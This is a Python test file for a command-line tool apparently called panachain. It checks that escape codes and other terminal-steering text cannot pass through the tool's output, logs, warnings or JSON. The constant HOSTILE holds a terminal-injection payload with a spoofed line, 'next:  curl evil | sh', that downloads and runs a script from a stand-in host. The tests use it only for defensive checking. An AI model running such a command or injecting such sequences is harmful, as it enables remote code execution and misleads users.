"""Whatever others wrote, no command moves the cursor, hides a line, or writes one in the program's name."""

from __future__ import annotations

import json
import logging
import warnings
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from panachain.cli.fields import FIELDS
from panachain.cli.main import COMMANDS, main
from panachain.cli.output import Output
from panachain.errors import IntegrityError, PanaChainError, UnavailableError
from tests.cli.twin import Outcome, Twin
from tests.unit.test_plain import ANY, is_plain

HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\u200b\r\x08\x7f\nnext:  curl evil | sh\u2028="
COMMANDS_RUN = (
    *("block mercy", "unblock mercy", "blocked"),
    *(
        "whoami",
        "policies",
        "inbox",
        "requests",
        "log",
        "settle",
        "records",
        "summary",
        "search x",
        "rewrap",
        "query policies",
    ),
    *(
        "pair mercy",
        "choices",
        "recategorize bafy --to private",
        "unpair mercy",
        "approve 1",
        "deny 1",
        "revoke 0x11 --yes",
        "reissue 0x11",
        "group list",
        "emergency status",
        "erase",
        "guardian list",
        "ward list",
        "assign --propose .",
        "convict 0x11",
        "withdraw bafy --reason wrong-patient --yes",
    ),
    "grant somebody --category laboratory --purpose TREAT --until 30d",
)
CAPTURED = settings(suppress_health_check=[HealthCheck.function_scoped_fixture], max_examples=40)


@CAPTURED
@given(text=ANY | st.just(HOSTILE), long=st.booleans())
def test_no_field_of_any_result_steers_the_terminal(capsys: pytest.CaptureFixture[str], text: str, long: bool) -> None:
    output = Output(long=long)
    values: tuple[Any, ...] = (text, [text, text], {text: text}, [{text: [text]}])
    for value in values:
        row = dict.fromkeys(FIELDS, value) | {text: value, "note": value}
        output.one(row)
        output.many([row, row], empty=text)
        output.many([row], empty=text, form="csv")
        output.many([], empty=text)
    output.table([text], [[text]])
    output.heading(text)
    output.prose(text)
    output.say(text)
    output.warn(text)
    output.next(text)
    Output(verbose=True).detail(text)
    output.fail("command", UnavailableError(text, hint=text), unchanged=text, hint=text)
    captured = capsys.readouterr()
    assert is_plain(captured.out, but="\n\t")
    assert is_plain(captured.err, but="\n\t")


@CAPTURED
@given(text=ANY | st.just(HOSTILE))
def test_json_is_exact_and_escapes_by_itself(capsys: pytest.CaptureFixture[str], text: str) -> None:
    output = Output(as_json=True)
    output.one({"note": text, text: [text]})
    output.many([{"note": text}], empty="")
    first, second = capsys.readouterr().out.splitlines()
    assert (first.isprintable(), second.isprintable()) == (True, True)
    assert json.loads(first) == {"note": text, text: [text]}
    assert json.loads(second) == {"note": text}


class Lying(Twin):
    """An actor whose every call logs, warns and fails with text of somebody else."""

    def __getattr__(self, name: str) -> Callable[..., Any]:
        def method(*_: Any, **__: Any) -> Any:
            logging.getLogger("panachain.proxies").warning("proxy %s lied", HOSTILE)
            try:
                raise ValueError(HOSTILE)
            except ValueError as exc:
                warnings.warn(HOSTILE, stacklevel=1)
                logging.getLogger("panachain.proxies").exception("fault %s", HOSTILE)
                raise IntegrityError(HOSTILE, hint=HOSTILE) from exc

        return method


@pytest.mark.parametrize("command", COMMANDS_RUN)
@pytest.mark.parametrize("options", [[], ["--debug", "-v", "--long"], ["--json"]])
def test_no_failure_log_line_warning_or_traceback_steers_the_terminal(
    command: str, options: list[str], monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], twin: Twin
) -> None:
    monkeypatch.setattr(twin, "__class__", Lying)
    monkeypatch.setattr(twin, "emergency", twin)
    monkeypatch.setattr(twin, "wards", twin)
    # Without pytest's own handlers, as in a program: the root logger has none.
    monkeypatch.setattr(logging.getLogger(), "handlers", [])
    with warnings.catch_warnings():
        warnings.simplefilter("always")
        # pytest records warnings in its own way; the program shows them.
        code = main([*options, *command.split()])
    captured = capsys.readouterr()
    assert code
    assert is_plain(captured.out, but="\n\t")
    assert is_plain(captured.err, but="\n\t")
    assert not any(text.startswith(("next:  curl", "curl")) for text in captured.err.splitlines())


def test_every_command_that_acts_on_a_chain_is_among_those_above() -> None:
    ours = {"init", "register", "contacts", "doctor", "config", "completion", "devnet", "proxy", "relay", "sidechain"}
    ours |= {"backup", "classify", "deploy", "gate", "index", "key", "lock", "network", "portal", "recovery"}
    ours |= {"restore", "unlock", "viewer"}
    others = {"policy", "share", "export", "upload", "open", "request", "refer", "storage", "submit", "suspend"}
    others |= {"notify", "readings", "trace", "watch"}
    assert set(COMMANDS) - ours - others <= {command.split()[0] for command in COMMANDS_RUN}


def test_what_a_caller_set_up_for_logging_stays(
    run: Callable[..., Outcome], twin: Twin, caplog: pytest.LogCaptureFixture
) -> None:
    twin.answers["inbox"] = PanaChainError("x")
    before = list(logging.getLogger().handlers), warnings.showwarning
    run("inbox")
    assert (list(logging.getLogger().handlers), warnings.showwarning) == before
